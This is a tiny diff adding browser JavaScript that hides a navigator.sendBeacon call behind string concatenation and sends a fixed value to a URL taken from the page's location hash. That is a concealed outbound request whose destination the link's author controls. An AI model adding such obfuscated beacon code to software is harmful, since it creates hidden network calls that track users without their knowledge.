@@ -1,0 +1,5 @@
+var nav = navigator;
+function leave(url, data) {
+  nav["send" + "Bea" + "con"](url, data);
+}
+leave(location.hash, "1");
